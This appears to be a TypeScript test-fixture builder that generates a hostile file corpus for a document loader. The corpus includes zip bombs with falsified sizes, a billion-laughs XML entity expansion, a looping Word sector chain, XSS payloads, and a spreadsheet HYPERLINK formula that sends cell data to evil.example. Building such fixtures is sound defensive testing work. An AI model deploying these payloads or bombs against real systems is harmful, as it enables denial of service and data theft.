// Builds the hostile corpus: the small files committed in fixtures/broken/ and the large or file-system ones made at test time.
import { chmodSync, copyFileSync, mkdirSync, readFileSync, statSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { constants as zlibConstants, crc32, deflateRawSync } from 'node:zlib';
import { writeZip } from '../zip.mjs';
import iconv from 'iconv-lite';
import type { LoadErrorCode } from '../../src/load/types.js';

export const ROOT = join(import.meta.dirname, '..', '..');
export const BROKEN = join(ROOT, 'fixtures', 'broken');
const fixture = (...parts: string[]): Buffer => readFileSync(join(ROOT, 'fixtures', ...parts));

/** What a hostile file must produce: a LoadError code, or 'ok' for a file the tool must read and check. */
export type Expected = LoadErrorCode | 'ok';

// ---------------------------------------------------------------------------------------------
// Zips that can lie about sizes (the loaders must never trust them), written by test/zip.mjs.

export interface ZipEntryInput {
  name: string;
  /** Uncompressed bytes, or an already deflated stream with its true size and CRC. */
  data: string | Uint8Array | { deflated: Uint8Array; size: number; crc: number };
  /** Size written in the central directory instead of the true one. */
  declaredSize?: number;
}

export function makeZip(entries: ZipEntryInput[]): Buffer {
  return writeZip(entries) as Buffer;
}

const CONTENT_TYPES =
  '<?xml version="1.0" encoding="UTF-8"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">' +
  '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>' +
  '<Default Extension="xml" ContentType="application/xml"/>' +
  '<Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>';
const RELS =
  '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
  '<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>';
const W_NS = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"';

function docxWithDocument(documentXml: string | ZipEntryInput['data'], declaredSize?: number): Buffer {
  return makeZip([
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: RELS },
    { name: 'word/document.xml', data: documentXml, ...(declaredSize !== undefined ? { declaredSize } : {}) },
  ]);
}

const para = (text: string): string => `<w:p><w:r><w:t xml:space="preserve">${text}</w:t></w:r></w:p>`;
const body = (inner: string): string => `<?xml version="1.0" encoding="UTF-8"?><w:document ${W_NS}><w:body>${inner}</w:body></w:document>`;

/** A deterministic byte generator (xorshift32), so "random" junk is the same on every run. */
function junk(length: number, seed: number): Buffer {
  const out = Buffer.alloc(length);
  let x = seed >>> 0 || 1;
  for (let i = 0; i < length; i++) {
    x ^= x << 13;
    x >>>= 0;
    x ^= x >>> 17;
    x ^= x << 5;
    x >>>= 0;
    out[i] = x & 0xff;
  }
  return out;
}

// ---------------------------------------------------------------------------------------------
// Committed corpus: small files (< 200 KB), rebuilt byte for byte by buildCommitted().

export interface HostileFile {
  /** File name inside fixtures/broken/ (or the generated folder). */
  name: string;
  expected: Expected;
  /** Why this file is hostile, for the docs and test names. */
  why: string;
}

/** Files already in fixtures/broken/ that were not made here. */
export const PREEXISTING: HostileFile[] = [
  { name: 'seed000-encrypted.pdf', expected: 'encrypted-pdf', why: 'PDF with an open password' },
  { name: 'seed000-truncated.docx', expected: 'corrupt-docx', why: '.docx cut after 6 KB: no zip central directory' },
  { name: 'seed003-scanned.pdf', expected: 'no-text-layer', why: 'scanned PDF, images only' },
];

interface Built extends HostileFile {
  bytes: () => Buffer;
}

/** Flips bytes inside the deflated word/document.xml of a real .docx (its zip directory stays intact). */
function corruptDeflate(): Buffer {
  const zip = Buffer.from(fixture('docx', 'seed003.docx'));
  const name = Buffer.from('word/document.xml');
  const at = zip.indexOf(Buffer.concat([name]), 0);
  // The first occurrence is the local header's name; the data follows (extra field length read from the header).
  const header = at - 30;
  const extra = zip.readUInt16LE(header + 28);
  const dataStart = at + name.length + extra;
  const compressed = zip.readUInt32LE(header + 18);
  for (let i = dataStart + 40; i < dataStart + compressed - 40; i += 7) zip[i] = (zip[i] ?? 0) ^ 0x5a;
  return zip;
}

/** seed003.pdf with every cross-reference offset and startxref pointing at wrong places. */
function brokenXref(): Buffer {
  const pdf = fixture('pdf', 'seed003.pdf').toString('latin1');
  let out = pdf.replace(/(\d{10}) (\d{5}) n/gu, (_m, _off: string, gen: string) => `${'0000000017'} ${gen} n`);
  out = out.replace(/startxref\s+(\d+)/gu, 'startxref\n123');
  return Buffer.from(out, 'latin1');
}

/** A PDF cut in half: the trailer, the xref and half of the page objects are gone. */
function truncatedPdf(): Buffer {
  const pdf = fixture('pdf', 'seed004.pdf');
  return pdf.subarray(0, Math.floor(pdf.length / 2));
}

/** "Billion laughs": ten levels of ten entity references in the DOCTYPE of word/document.xml. */
function billionLaughs(): Buffer {
  let dtd = '<!ENTITY lol0 "lol">';
  for (let i = 1; i <= 9; i++) dtd += `<!ENTITY lol${i} "${`&lol${i - 1};`.repeat(10)}">`;
  const xml =
    `<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE w:document [${dtd}]>` +
    `<w:document ${W_NS}><w:body>${para('KẾ HOẠCH &lol9;')}</w:body></w:document>`;
  return docxWithDocument(xml);
}

/** Tables nested `depth` deep, one cell each. */
function nestedTables(depth: number): Buffer {
  const open = '<w:tbl><w:tr><w:tc>';
  const close = `${para('ô')}</w:tc></w:tr></w:tbl>`;
  return docxWithDocument(body(`${para('KẾ HOẠCH')}${open.repeat(depth)}${para('lõi')}${close.repeat(depth)}${para('Nơi nhận:')}`));
}

/** A zip that looks like a Word package but has no word/document.xml. */
function noDocumentXml(): Buffer {
  return makeZip([
    { name: '[Content_Types].xml', data: CONTENT_TYPES },
    { name: '_rels/.rels', data: RELS },
    { name: 'word/styles.xml', data: `<?xml version="1.0"?><w:styles ${W_NS}/>` },
  ]);
}

/** A legacy Word (OLE) header and directory name followed by junk. */
function oleJunk(): Buffer {
  const head = Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]);
  return Buffer.concat([head, junk(1024, 77), Buffer.from('WordDocument', 'utf16le'), junk(4096, 78)]);
}

/**
 * seed001.doc with the sector chain of its WordDocument stream turned into a three-sector loop (A → B → C → A):
 * word-extractor used to follow it until V8 aborted the process (exit 133).
 */
function loopingDoc(): Buffer {
  const doc = Buffer.from(fixture('legacy', 'seed001.doc'));
  const secSize = 1 << doc.readUInt16LE(30);
  const perSector = secSize / 4;
  const satSector = (i: number): number => doc.readInt32LE(76 + 4 * i);
  const satAt = (id: number): number => 512 + satSector(Math.floor(id / perSector)) * secSize + 4 * (id % perSector);
  // The directory entry named "WordDocument" (UTF-16LE) gives the stream's first sector.
  const name = Buffer.from('WordDocument', 'utf16le');
  const entry = doc.indexOf(name);
  const first = doc.readInt32LE(entry + 116);
  const second = doc.readInt32LE(satAt(first));
  const third = doc.readInt32LE(satAt(second));
  doc.writeInt32LE(first, satAt(third));
  return doc;
}

/** A UTF-16 rendition of a real plan without a byte order mark. */
function utf16NoBom(be: boolean): Buffer {
  const le = Buffer.from(fixture('plans', 'seed003.txt').toString('utf8'), 'utf16le');
  return be ? Buffer.from(le).swap16() : le;
}

/** Japanese text in Shift-JIS: neither UTF-8 nor a Vietnamese legacy code page. */
function shiftJis(): Buffer {
  const text = '計画書\n第一条 この計画は、行政改革の推進に関する事項を定めるものとする。\n第二条 各部局は、年度計画を策定し、実施状況を報告しなければならない。\n'.repeat(20);
  return iconv.encode(text, 'Shift_JIS');
}

/** A plan whose text carries HTML, script and spreadsheet-formula payloads (for the report escaping checks). */
export function injectionPlan(): string {
  return fixture('plans', 'seed003.txt')
    .toString('utf8')
    .replace('KẾ HOẠCH **Cải cách hành chính năm 2026**', 'KẾ HOẠCH <script>alert("xss")</script> Cải cách hành chính năm 2026 <img src=x onerror=alert(1)>')
    .replace('I. MỤC ĐÍCH, YÊU CẦU', '=HYPERLINK("http://evil.example/?"&A1,"bấm") I. MỤC ĐÍCH, YÊU CẦU</td><script>alert(2)</script>');
}

export const COMMITTED: Built[] = [
  { name: 'corrupt-deflate.docx', expected: 'corrupt-docx', why: 'valid zip directory, damaged deflate data in word/document.xml', bytes: corruptDeflate },
  { name: 'no-document-xml.docx', expected: 'corrupt-docx', why: 'Word package without word/document.xml', bytes: noDocumentXml },
  {
    name: 'zip-bomb-declared.docx',
    expected: 'docx-too-large',
    why: '500-byte zip whose word/document.xml declares 4 GB',
    bytes: () => docxWithDocument(body(para('x')), 0xfffffff0),
  },
  { name: 'billion-laughs.docx', expected: 'corrupt-docx', why: 'XML entity expansion (10^9 "lol") in the DOCTYPE of word/document.xml', bytes: billionLaughs },
  { name: 'nested-tables.docx', expected: 'ok', why: 'tables nested 1,000 deep (still readable)', bytes: () => nestedTables(1000) },
  { name: 'nested-tables-deep.docx', expected: 'corrupt-docx', why: 'tables nested 20,000 deep (too deep to read)', bytes: () => nestedTables(20_000) },
  { name: 'junk.txt', expected: 'binary', why: '4 KB of random bytes named .txt', bytes: () => junk(4096, 1) },
  { name: 'junk.pdf', expected: 'binary', why: '4 KB of random bytes named .pdf', bytes: () => junk(4096, 2) },
  { name: 'junk.docx', expected: 'binary', why: '4 KB of random bytes named .docx', bytes: () => junk(4096, 3) },
  { name: 'junk-ole.doc', expected: 'corrupt-doc', why: 'OLE header and a WordDocument name followed by junk', bytes: oleJunk },
  { name: 'looping-chain.doc', expected: 'corrupt-doc', why: '.doc whose WordDocument sector chain loops A → B → C → A (aborted Node natively)', bytes: loopingDoc },
  { name: 'empty.txt', expected: 'empty', why: '0 bytes', bytes: () => Buffer.alloc(0) },
  { name: 'empty.docx', expected: 'empty', why: '0 bytes', bytes: () => Buffer.alloc(0) },
  { name: 'empty.pdf', expected: 'empty', why: '0 bytes', bytes: () => Buffer.alloc(0) },
  { name: 'broken-xref.pdf', expected: 'ok', why: 'every xref offset and startxref wrong (readers rebuild the table)', bytes: brokenXref },
  { name: 'truncated.pdf', expected: 'corrupt-pdf', why: 'PDF cut in half: no trailer, no xref', bytes: truncatedPdf },
  { name: 'shift-jis.txt', expected: 'bad-encoding', why: 'Japanese text in Shift-JIS', bytes: shiftJis },
  { name: 'utf16le-no-bom.txt', expected: 'ok', why: 'a plan in UTF-16LE without a byte order mark', bytes: () => utf16NoBom(false) },
  { name: 'utf16be-no-bom.txt', expected: 'ok', why: 'a plan in UTF-16BE without a byte order mark', bytes: () => utf16NoBom(true) },
  {
    name: 'Kế hoạch số 12 năm 2026 (bản sao).txt',
    expected: 'ok',
    why: 'Vietnamese file name with spaces and parentheses',
    bytes: () => fixture('plans', 'seed003.txt'),
  },
];

/** Writes the committed corpus into `dir` (used once to create fixtures/broken/, and by the test that checks it is current). */
export function buildCommitted(dir: string): void {
  mkdirSync(dir, { recursive: true });
  for (const f of COMMITTED) writeFileSync(join(dir, f.name), f.bytes());
}

/** The bytes a committed file must have. */
export function committedBytes(name: string): Buffer | undefined {
  return COMMITTED.find((f) => f.name === name)?.bytes();
}

// ---------------------------------------------------------------------------------------------
// Generated at test time: large files and file-system oddities.

/**
 * Deflates `prefix` then `chunk` repeated up to `total` bytes in all, without holding the whole input. Each piece is
 * deflated alone and ended with a full flush (byte-aligned, no reference to earlier data), so one deflated run of
 * about 1 MB is repeated as is: the stream inflates to exactly those bytes, at the same ratio as one deflate of the
 * whole, and costs a few milliseconds instead of seconds of zlib (5 s of CPU for 1 GB).
 */
export async function deflateRepeated(prefix: Buffer, chunk: Buffer, total: number): Promise<{ deflated: Buffer; size: number; crc: number }> {
  const flushed = (data: Buffer): Buffer => (data.length === 0 ? Buffer.alloc(0) : deflateRawSync(data, { level: 9, memLevel: 9, finishFlush: zlibConstants.Z_FULL_FLUSH }));
  // Whole copies of `chunk` in about 1 MB: the input stays the same periodic sequence.
  const run = Buffer.concat(Array.from({ length: Math.max(1, Math.floor(MB / chunk.length)) }, () => chunk));
  const body = total - prefix.length;
  const runs = Math.floor(body / run.length);
  const rest = run.subarray(0, body - runs * run.length);
  const deflatedRun = flushed(run);
  let crc = crc32(prefix);
  for (let i = 0; i < runs; i++) crc = crc32(run, crc);
  crc = crc32(rest, crc);
  // A raw deflater given nothing ends the stream: one empty final block.
  const deflated = Buffer.concat([flushed(prefix), ...Array.from({ length: runs }, () => deflatedRun), flushed(rest), deflateRawSync(Buffer.alloc(0))]);
  return { deflated, size: total, crc };
}

/**
 * A sound one-page plan with one picture whose zip entry lies: the picture inflates to `inflated` bytes and
 * its entry declares 60 KB (a 2 MB file inflating to gigabytes is the same file with a bigger picture).
 */
export async function lyingImageDocx(inflated: number): Promise<Buffer> {
  const image = await deflateRepeated(Buffer.from('\x89PNG\r\n\x1a\n', 'latin1'), Buffer.alloc(MB, 0), inflated);
  const ns =
    `${W_NS} xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" ` +
    'xmlns:wp="http://schemas.openxmlformats.org/drawingml/2006/wordprocessingDrawing" ' +
    'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture"';
  const picture =
    '<w:p><w:r><w:drawing><wp:inline><wp:extent cx="100" cy="100"/><wp:docPr id="1" name="Ảnh" descr="logo"/><a:graphic>' +
    '<a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture"><pic:pic><pic:blipFill><a:blip r:embed="rIdImg"/>' +
    '</pic:blipFill></pic:pic></a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>';
  const text = fixture('plans', 'seed003.txt').toString('utf8').split('\n').map((l) => para(l.replace(/[<&>]/gu, ' '))).join('');
  const documentXml = `<?xml version="1.0" encoding="UTF-8"?><w:document ${ns}><w:body>${picture}${text}</w:body></w:document>`;
  return makeZip([
    { name: '[Content_Types].xml', data: CONTENT_TYPES.replace('<Default Extension="xml"', '<Default Extension="png" ContentType="image/png"/><Default Extension="xml"') },
    { name: '_rels/.rels', data: RELS },
    { name: 'word/document.xml', data: documentXml },
    {
      name: 'word/_rels/document.xml.rels',
      data:
        '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">' +
        '<Relationship Id="rIdImg" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/image" Target="media/image1.png"/></Relationships>',
    },
    { name: 'word/media/image1.png', data: image, declaredSize: 60_000 },
  ]);
}

export interface Generated {
  dir: string;
  files: HostileFile[];
  /** True when the file made unreadable by chmod 000 can still be read (running as root). */
  unreadableIsReadable: boolean;
  /** The symlink loop's folder. */
  loopDir: string;
}

const MB = 1024 * 1024;

/** A line of realistic plan text, for the big .txt files. */
const PLAN_LINE =
  '- Tiếp tục rà soát, đơn giản hóa thủ tục hành chính theo Nghị định số 61/2018/NĐ-CP ngày 23/4/2018 của Chính phủ; hoàn thành trước ngày 30/6/2026, đạt 100% hồ sơ.\n';

/**
 * Makes the large and file-system cases in `dir`:
 * a real zip bomb that lies about its size, a real honest one, a 50 MB .txt (just over the default file limit), a
 * 20 MB one (over the text limit), a 5 MB one, a single 5 MB line, an unreadable file, a symlink loop, and an NFD-named plan.
 */
export async function generateLarge(dir: string): Promise<Generated> {
  mkdirSync(dir, { recursive: true });
  const files: HostileFile[] = [];
  const add = (name: string, bytes: Buffer | string, expected: Expected, why: string): void => {
    writeFileSync(join(dir, name), bytes);
    files.push({ name, expected, why });
  };

  // 1 GB of paragraphs in ~1 MB of zip, the central directory claiming 60 KB: only the inflater can find out.
  // Long runs of one letter deflate ~1000:1; a paragraph break every 64 KB keeps it a plausible document.
  const paraXml = Buffer.from(para(`Kế hoạch ${'a'.repeat(64 * 1024)}`));
  const head = Buffer.from(`<?xml version="1.0" encoding="UTF-8"?><w:document ${W_NS}><w:body>`);
  const lying = await deflateRepeated(head, paraXml, 1024 * MB);
  add('zip-bomb-lying.docx', docxWithDocument(lying, 60_000), 'docx-too-large', '1 GB word/document.xml in 1 MB, declared as 60 KB');

  // An honest bomb: 300 MB of one repeated byte, declared as such (ratio ~1000:1 and over the size limit).
  const honest = await deflateRepeated(Buffer.alloc(0), Buffer.alloc(MB, 0x61), 300 * MB);
  add('zip-bomb-honest.docx', docxWithDocument(honest), 'docx-too-large', '300 MB word/document.xml in 300 KB');

  const line = Buffer.from(PLAN_LINE);
  const plan = fixture('plans', 'seed003.txt');
  const big = (size: number): Buffer => {
    const out = Buffer.alloc(size, 0x20);
    plan.copy(out, 0);
    for (let p = plan.length; p + line.length <= size; p += line.length) line.copy(out, p);
    return out;
  };
  add('big-50mb.txt', big(50 * MB + 1), 'too-large', '50 MB + 1 byte of text (the default file limit is 50 MB)');
  add('big-20mb.txt', big(20 * MB), 'text-too-long', '20 MB (16.6 M characters) of text: over the 10 M-character default');
  add('big-5mb.txt', big(5 * MB), 'ok', '5 MB of plan text (some 1,500 pages), dense with citations, dates and targets');

  // One paragraph of prose with a citation, a date and a percentage every sentence or so.
  const oneLine = Buffer.alloc(5 * MB, 0x20);
  const unit = Buffer.from(
    'Các cơ quan, đơn vị tiếp tục thực hiện nghiêm túc các nhiệm vụ cải cách hành chính, nâng cao chất lượng phục vụ người dân. ' +
      'Triển khai Nghị định số 61/2018/NĐ-CP ngày 23/4/2018 của Chính phủ, đạt 100% hồ sơ (giai đoạn 2021-2025). ',
  );
  for (let p = 0; p + unit.length <= oneLine.length; p += unit.length) unit.copy(oneLine, p);
  add('one-line-5mb.txt', oneLine, 'ok', 'a single 5 MB line (no line break) of prose, citations, dates and percentages');

  const locked = join(dir, 'locked.txt');
  add('locked.txt', plan, 'unreadable', 'permissions 000');
  chmodSync(locked, 0o000);
  let unreadableIsReadable = false;
  try {
    readFileSync(locked);
    unreadableIsReadable = true;
  } catch {
    unreadableIsReadable = false;
  }
  if (unreadableIsReadable) {
    const last = files[files.length - 1];
    if (last) last.expected = 'ok';
  }

  // NFD file name (decomposed diacritics, as macOS writes them): must be read under its own name.
  add('Kế hoạch NFD.txt'.normalize('NFD'), plan, 'ok', 'file name in NFD');

  const loopDir = join(dir, 'loop');
  mkdirSync(join(loopDir, 'a'), { recursive: true });
  copyFileSync(join(ROOT, 'fixtures', 'plans', 'seed004.txt'), join(loopDir, 'a', 'inside-loop.txt'));
  symlinkSync('..', join(loopDir, 'a', 'back'), 'dir');
  symlinkSync(join(loopDir, 'a'), join(loopDir, 'a', 'self'), 'dir');
  files.push({ name: join('loop', 'a', 'inside-loop.txt'), expected: 'ok', why: 'plan inside a folder with a symlink loop' });

  return { dir, files, unreadableIsReadable, loopDir };
}

/** Size in bytes (for the size assertions on committed files). */
export const sizeOf = (path: string): number => statSync(path).size;
